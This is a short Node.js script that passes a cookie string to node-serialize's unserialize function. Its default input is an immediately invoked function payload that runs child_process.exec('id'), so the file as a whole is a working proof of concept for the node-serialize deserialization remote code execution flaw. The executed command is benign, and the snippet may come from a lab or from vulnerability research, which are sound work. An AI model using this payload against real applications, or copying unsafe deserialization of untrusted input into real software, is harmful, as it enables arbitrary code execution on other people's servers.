const serialize = require('node-serialize');

const cookie = process.argv[2] || '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}';
const session = serialize.unserialize(cookie);
console.log(session);
